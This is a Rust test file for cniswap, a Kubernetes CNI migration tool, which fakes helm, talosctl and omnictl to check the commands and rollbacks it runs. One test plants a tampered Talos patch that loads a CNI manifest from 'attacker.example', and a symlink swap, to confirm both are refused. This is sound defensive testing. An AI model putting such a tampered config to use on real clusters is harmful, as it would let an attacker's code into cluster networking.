//! External tools: cniswap runs helm, talosctl and omnictl as subprocesses. The real tools are
//! not available here, so this test binary doubles as recording fakes of them (when run under
//! those names): each fake checks the command line against the real tool's syntax, logs it,
//! and keeps enough state for cniswap to read the step's effect back.

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod fakes;

use cniswap_apply::{KubeActions, Settings};
use cniswap_exec::effect;
use cniswap_exec::{Actions, Check, CrashPoints, Memo, RunContext};
use cniswap_plan::{Action, Plan, Step};
use libtest_mimic::{Arguments, Failed, Trial};
use std::path::Path;
use std::time::Duration;

const FAKES: [&str; 3] = ["helm", "talosctl", "omnictl"];

fn main() {
    if let Some(code) = fakes::dispatch() {
        std::process::exit(code);
    }
    // Put the fakes first on PATH for everything this binary starts: run again with it set.
    if std::env::var_os("CNISWAP_FAKE_TOOLS").is_none() {
        let dir = tempfile::tempdir().unwrap();
        let me = std::env::current_exe().unwrap();
        for tool in FAKES {
            std::os::unix::fs::symlink(&me, dir.path().join(tool)).unwrap();
        }
        let path = format!(
            "{}:{}",
            dir.path().display(),
            std::env::var("PATH").unwrap_or_default()
        );
        let status = std::process::Command::new(&me)
            .args(std::env::args().skip(1))
            .env("PATH", path)
            .env("CNISWAP_FAKE_TOOLS", dir.path())
            .status()
            .unwrap();
        std::process::exit(status.code().unwrap_or(1));
    }
    let tests = vec![
        Trial::test(
            "fakes_refuse_what_the_real_tools_refuse",
            fakes_refuse_bad_syntax,
        ),
        Trial::test(
            "command_lines_cniswap_builds_are_valid",
            built_argv_is_valid,
        ),
        Trial::test("helm_steps_prove_their_effect", helm_steps),
        Trial::test("talos_patches_are_read_back", talos_patch),
        Trial::test("omni_resources_are_read_back", omni_apply),
        Trial::test(
            "artifacts_are_checked_right_before_use",
            artifacts_checked_before_use,
        ),
    ];
    libtest_mimic::run(&Arguments::from_args(), tests).exit();
}

fn fake(tool: &str, dir: &Path, args: &[&str]) -> std::process::Output {
    std::process::Command::new(tool)
        .args(args)
        .current_dir(dir)
        .output()
        .unwrap()
}

fn check(cond: bool, what: impl Into<String>) -> Result<(), Failed> {
    if cond {
        Ok(())
    } else {
        Err(what.into().into())
    }
}

fn fakes_refuse_bad_syntax() -> Result<(), Failed> {
    let dir = tempfile::tempdir().unwrap();
    let cases: &[(&str, &[&str])] = &[
        (
            "helm",
            &[
                "upgrade",
                "--install",
                "cilium",
                "cilium/cilium",
                "--value",
                "v.yaml",
            ],
        ),
        ("helm", &["upgrade", "--install", "cilium"]),
        ("helm", &["list", "--output"]),
        ("helm", &["history"]),
        ("helm", &["rollback", "cilium", "1", "2"]),
        (
            "talosctl",
            &["patch", "machineconfig", "--patch", "@p.yaml"],
        ),
        ("talosctl", &["--nodes", "10.0.0.1", "reboot", "now"]),
        (
            "talosctl",
            &["--nodes", "10.0.0.1", "reboot", "--wait=maybe"],
        ),
        ("omnictl", &["apply"]),
        ("omnictl", &["apply", "--filename", "x.yaml"]),
    ];
    for (tool, args) in cases {
        let out = fake(tool, dir.path(), args);
        check(
            !out.status.success(),
            format!("{tool} {} was accepted", args.join(" ")),
        )?;
    }
    let log = std::fs::read_to_string(dir.path().join(fakes::LOG)).unwrap();
    check(
        log.lines().count() == cases.len(),
        format!("every call logged: {log}"),
    )
}

fn built_argv_is_valid() -> Result<(), Failed> {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("v.yaml"), "a: 1\n").unwrap();
    std::fs::write(dir.path().join("p.yaml"), "machine: {}\n").unwrap();
    // helm: what the upgrade step runs (after `repo add`, which the fake requires first).
    let repo = fake(
        "helm",
        dir.path(),
        &[
            "repo",
            "add",
            "cilium",
            "https://helm.cilium.io",
            "--force-update",
        ],
    );
    check(repo.status.success(), String::from_utf8_lossy(&repo.stderr))?;
    let args = cniswap_apply::helm_upgrade_args(
        "cilium",
        "kube-system",
        "https://helm.cilium.io",
        "cilium",
        "1.20.1",
        &["v.yaml".into()],
        "0123abcd",
        Duration::from_secs(600),
    );
    let out = std::process::Command::new("helm")
        .args(&args)
        .current_dir(dir.path())
        .output()
        .unwrap();
    check(
        out.status.success(),
        format!(
            "helm {}: {}",
            args.join(" "),
            String::from_utf8_lossy(&out.stderr)
        ),
    )?;
    for args in [
        cniswap_apply::talos_patch_args(&["10.0.0.1".into(), "10.0.0.2".into()], "p.yaml"),
        cniswap_apply::talos_reboot_args("10.0.0.1"),
        cniswap_apply::etcd_snapshot_args("10.0.0.1", "etcd.db"),
    ] {
        std::fs::write(
            dir.path().join(".fake-talosctl.json"),
            r#"{"nodes":{"10.0.0.1":[{"version":"v1alpha1"}],"10.0.0.2":[{"version":"v1alpha1"}]}}"#,
        )
        .unwrap();
        let out = std::process::Command::new("talosctl")
            .args(&args)
            .current_dir(dir.path())
            .output()
            .unwrap();
        check(
            out.status.success(),
            format!(
                "talosctl {}: {}",
                args.join(" "),
                String::from_utf8_lossy(&out.stderr)
            ),
        )?;
    }
    Ok(())
}

/// An adapter whose cluster is never contacted (tool steps do not touch the API server).
fn offline(dir: &Path) -> KubeActions {
    offline_with(
        dir,
        cniswap_exec::digest::PlanDigest {
            plan: "tools".into(),
            files: Default::default(),
        },
    )
}

/// [`offline`], for a run that began with these artifact digests.
fn offline_with(dir: &Path, digest: cniswap_exec::digest::PlanDigest) -> KubeActions {
    let kubeconfig = dir.join("kubeconfig");
    std::fs::write(
        &kubeconfig,
        "apiVersion: v1\nkind: Config\nclusters:\n- name: c\n  cluster:\n    server: https://127.0.0.1:1\ncontexts:\n- name: c\n  context:\n    cluster: c\n    user: u\ncurrent-context: c\nusers:\n- name: u\n  user:\n    token: not-a-secret\n",
    )
    .unwrap();
    let plan: Plan = serde_saphyr::from_str(
        "schema_version: 2\ncluster: c\nplatform: talos (v1alpha1)\nfrom: [flannel]\nto: cilium\nstrategy: rolling\nstrategy_reason: r\nkube_proxy: keep\ninstall: helm\nagent_image: ghcr.io/cniswap/cniswap:test\npreflight: []\nestimates: {per_node: [], total_minutes: 0, longest_outage_minutes: 0, exceeds_token_lifetime: false, assumptions: []}\nphases: []\nartifacts: []\n",
    )
    .unwrap();
    KubeActions::connect(
        &cniswap_kube::LiveOptions {
            kubeconfig: Some(kubeconfig),
            context: None,
            ..Default::default()
        },
        &plan,
        Settings {
            plan_dir: cniswap_exec::PlanDir::open(dir).unwrap(),
            digest,
            agent_image: None,
        },
    )
    .map_err(|f| f.message)
    .unwrap()
}

fn step(action: Action) -> Step {
    Step {
        id: "2.1".into(),
        action,
        description: "tool step".into(),
        commands: Vec::new(),
        done_when: String::new(),
        check: None,
        timeout_seconds: 60,
        pods_recreated: Vec::new(),
        notes: Vec::new(),
        pods_deleted: Vec::new(),
    }
}

fn read(actions: &mut KubeActions, step: &Step, memo: &Memo) -> Result<Check, Failed> {
    actions
        .check(step, &effect::of(&step.action), memo)
        .map_err(|e| Failed::from(e.failure().message.clone()))
}

fn run(actions: &mut KubeActions, step: &Step, memo: &Memo) -> Result<String, Failed> {
    let crash = CrashPoints::none();
    actions
        .run(
            step,
            &RunContext {
                memo,
                approved: false,
                attempt: 1,
                timeout: Duration::from_secs(30),
                crash: &crash,
            },
        )
        .map_err(|e| Failed::from(format!("{} ({})", e.failure().message, e.failure().output)))
}

fn is_done(c: &Check) -> bool {
    matches!(c, Check::Done(_))
}

fn log(dir: &Path) -> Vec<String> {
    std::fs::read_to_string(dir.join(fakes::LOG))
        .unwrap_or_default()
        .lines()
        .map(str::to_string)
        .collect()
}

fn sha(dir: &Path, files: &[&str]) -> String {
    let mut bytes = Vec::new();
    for f in files {
        bytes.extend(std::fs::read(dir.join(f)).unwrap());
    }
    cniswap_exec::digest::sha256(&bytes)
}

fn upgrade(d: &Path, values: &[&str]) -> Step {
    step(Action::HelmUpgrade {
        release: "cilium".into(),
        namespace: "kube-system".into(),
        repo: "https://helm.cilium.io".into(),
        chart: "cilium".into(),
        version: "1.20.1".into(),
        values: values.iter().map(|v| v.to_string()).collect(),
        values_sha256: sha(d, values),
        revision_backup: Some(format!("backups/helm-revision-before-{}.txt", values.len())),
    })
}

fn helm_steps() -> Result<(), Failed> {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    std::fs::create_dir_all(d.join("artifacts")).unwrap();
    std::fs::write(
        d.join("artifacts/migration.yaml"),
        "cni:\n  customConf: true\ntunnelPort: 8473\n",
    )
    .unwrap();
    std::fs::write(
        d.join("artifacts/final.yaml"),
        "cni:\n  customConf: false\n",
    )
    .unwrap();
    let mut actions = offline(d);
    let memo = Memo::new();
    let install = upgrade(d, &["artifacts/migration.yaml"]);
    check(
        !is_done(&read(&mut actions, &install, &memo)?),
        "not installed yet",
    )?;
    let out = run(&mut actions, &install, &memo)?;
    check(
        out.contains(
            "$ helm upgrade --install cilium cilium --repo https://helm.cilium.io --version 1.20.1",
        ),
        format!("transcript: {out}"),
    )?;
    check(
        is_done(&read(&mut actions, &install, &memo)?),
        "installed with those values",
    )?;
    let before = std::fs::read_to_string(d.join("backups/helm-revision-before-1.txt")).unwrap();
    check(before.is_empty(), format!("no release before: {before:?}"))?;

    // The final values: the migration values' digest no longer runs.
    let finish = upgrade(d, &["artifacts/final.yaml"]);
    check(
        !is_done(&read(&mut actions, &finish, &memo)?),
        "final values not there yet",
    )?;
    run(&mut actions, &finish, &memo)?;
    check(
        is_done(&read(&mut actions, &finish, &memo)?),
        "final values run",
    )?;
    check(
        !is_done(&read(&mut actions, &install, &memo)?),
        "the migration values no longer run",
    )?;
    std::fs::rename(
        d.join("backups/helm-revision-before-1.txt"),
        d.join("backups/first.txt"),
    )
    .unwrap();
    let revision =
        std::fs::read_to_string(d.join("backups/helm-revision-before-1.txt")).unwrap_or_default();
    let _ = revision;

    // A values file changed since the plan: refused before helm runs.
    std::fs::write(
        d.join("artifacts/final.yaml"),
        "cni:\n  customConf: maybe\n",
    )
    .unwrap();
    let changed = run(&mut actions, &finish, &memo);
    check(
        changed
            .as_ref()
            .is_err_and(|e| format!("{e:?}").contains("do not have the digest")),
        format!("changed values refused: {changed:?}"),
    )?;
    std::fs::write(
        d.join("artifacts/final.yaml"),
        "cni:\n  customConf: false\n",
    )
    .unwrap();

    // Roll back to the revision recorded before the final upgrade (1), from the history.
    std::fs::write(d.join("backups/rev.txt"), "1\n").unwrap();
    let back = step(Action::HelmRollback {
        release: "cilium".into(),
        namespace: "kube-system".into(),
        revision_file: "backups/rev.txt".into(),
    });
    check(
        !is_done(&read(&mut actions, &back, &memo)?),
        "not rolled back yet",
    )?;
    run(&mut actions, &back, &memo)?;
    check(is_done(&read(&mut actions, &back, &memo)?), "rolled back")?;

    // Uninstall writes its backup first.
    let remove = step(Action::HelmUninstall {
        release: "cilium".into(),
        namespace: "kube-system".into(),
        backup: "backups/helm-cilium.txt".into(),
    });
    run(&mut actions, &remove, &memo)?;
    check(
        is_done(&read(&mut actions, &remove, &memo)?),
        "release gone",
    )?;
    let backup = std::fs::read_to_string(d.join("backups/helm-cilium.txt")).unwrap_or_default();
    check(
        backup.contains("CHART: \"cilium-1.20.1\""),
        format!("backup: {backup}"),
    )?;
    // A rollback to "no release before" (an empty file) is an uninstall, proven by absence.
    let none = step(Action::HelmRollback {
        release: "cilium".into(),
        namespace: "kube-system".into(),
        revision_file: "backups/first.txt".into(),
    });
    check(
        is_done(&read(&mut actions, &none, &memo)?),
        "no release, as before the plan",
    )?;
    let log = log(d);
    check(
        log.iter().position(|l| l.starts_with("helm get all"))
            < log.iter().position(|l| l.starts_with("helm uninstall")),
        format!("backup before uninstall: {log:#?}"),
    )
}

fn talos_patch() -> Result<(), Failed> {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    std::fs::write(
        d.join(".fake-talosctl.json"),
        r#"{"nodes":{"10.0.0.1":[{"version":"v1alpha1","cluster":{"network":{"cni":{"name":"flannel"}}}},{"apiVersion":"v1alpha1","kind":"KubeFlannelCNIConfig"}]}}"#,
    )
    .unwrap();
    std::fs::write(
        d.join("disable.yaml"),
        "cluster:\n  network:\n    cni:\n      name: none\n---\napiVersion: v1alpha1\nkind: KubeFlannelCNIConfig\n$patch: delete\n",
    )
    .unwrap();
    let actions = offline(d);
    let ips = vec!["10.0.0.1".to_string()];
    let before = actions
        .block_on(actions.talos_patched_on(&["cp1".into()], &ips, "disable.yaml"))
        .map_err(|e| e.failure().message.clone())?;
    check(!before.0, format!("not patched yet: {}", before.1))?;
    actions
        .block_on(actions.talos_patch_on(&ips, "disable.yaml", Duration::from_secs(30)))
        .map_err(|e| e.failure().message.clone())?;
    let after = actions
        .block_on(actions.talos_patched_on(&["cp1".into()], &ips, "disable.yaml"))
        .map_err(|e| e.failure().message.clone())?;
    check(after.0, format!("patched: {}", after.1))
}

/// An artifact changed after the run began (or replaced by a link) is refused right before
/// its step uses it, and the tool never runs; the tool gets a checked copy, not the file.
fn artifacts_checked_before_use() -> Result<(), Failed> {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    std::fs::write(
        d.join(".fake-talosctl.json"),
        r#"{"nodes":{"10.0.0.1":[{"version":"v1alpha1","cluster":{"network":{"cni":{"name":"flannel"}}}}]}}"#,
    )
    .unwrap();
    let planned = "cluster:\n  network:\n    cni:\n      name: none\n";
    std::fs::create_dir_all(d.join("artifacts")).unwrap();
    std::fs::write(d.join("artifacts/disable.yaml"), planned).unwrap();
    let digest = cniswap_exec::digest::PlanDigest {
        plan: "tools".into(),
        files: [(
            "artifacts/disable.yaml".to_string(),
            cniswap_exec::digest::sha256(planned.as_bytes()),
        )]
        .into(),
    };
    let actions = offline_with(d, digest);
    let ips = vec!["10.0.0.1".to_string()];
    let patch = |actions: &KubeActions| {
        actions
            .block_on(actions.talos_patch_on(
                &ips,
                "artifacts/disable.yaml",
                Duration::from_secs(30),
            ))
            .map_err(|e| e.failure().message.clone())
    };
    std::fs::write(
        d.join("artifacts/disable.yaml"),
        "cluster:\n  network:\n    cni:\n      name: custom\n      urls: [https://attacker.example/cni.yaml]\n",
    )
    .unwrap();
    let changed = patch(&actions);
    check(
        changed
            .as_ref()
            .is_err_and(|e| e.contains("changed since the run began")),
        format!("a changed artifact is refused: {changed:?}"),
    )?;
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(outside.path().join("other.yaml"), planned).unwrap();
    std::fs::remove_file(d.join("artifacts/disable.yaml")).unwrap();
    std::os::unix::fs::symlink(
        outside.path().join("other.yaml"),
        d.join("artifacts/disable.yaml"),
    )
    .unwrap();
    let linked = patch(&actions);
    check(
        linked.as_ref().is_err_and(|e| e.contains("symbolic link")),
        format!("a linked artifact is refused: {linked:?}"),
    )?;
    check(
        !log(d).iter().any(|l| l.contains("patch")),
        format!("talosctl never ran: {:?}", log(d)),
    )?;
    std::fs::remove_file(d.join("artifacts/disable.yaml")).unwrap();
    std::fs::write(d.join("artifacts/disable.yaml"), planned).unwrap();
    patch(&actions)?;
    let ran = log(d);
    check(
        ran.iter()
            .any(|l| l.contains("patch") && !l.contains(&d.display().to_string())),
        format!("talosctl read a private copy: {ran:?}"),
    )
}

fn omni_apply() -> Result<(), Failed> {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    std::fs::write(
        d.join("patch.yaml"),
        "metadata:\n  namespace: default\n  type: ConfigPatches.omni.sidero.dev\n  id: 400-cniswap-cni\n  labels:\n    omni.sidero.dev/cluster: homelab\nspec:\n  data: |\n    cluster:\n      network:\n        cni:\n          name: none\n",
    )
    .unwrap();
    let mut actions = offline(d);
    let memo = Memo::new();
    let create = step(Action::OmniConfigPatch {
        patch_id: "400-cniswap-cni".into(),
        cluster: "homelab".into(),
        file: "patch.yaml".into(),
        remove: false,
        backup: None,
    });
    check(
        !is_done(&read(&mut actions, &create, &memo)?),
        "not in Omni yet",
    )?;
    run(&mut actions, &create, &memo)?;
    check(is_done(&read(&mut actions, &create, &memo)?), "in Omni")?;
    let remove = step(Action::OmniConfigPatch {
        patch_id: "400-cniswap-cni".into(),
        cluster: "homelab".into(),
        file: "patch.yaml".into(),
        remove: true,
        backup: Some("backups/omni-400.yaml".into()),
    });
    check(
        !is_done(&read(&mut actions, &remove, &memo)?),
        "still in Omni",
    )?;
    run(&mut actions, &remove, &memo)?;
    check(
        is_done(&read(&mut actions, &remove, &memo)?),
        "gone from Omni",
    )?;
    let backup = std::fs::read_to_string(d.join("backups/omni-400.yaml")).unwrap_or_default();
    check(
        backup.contains("400-cniswap-cni"),
        format!("backed up first: {backup}"),
    )
}
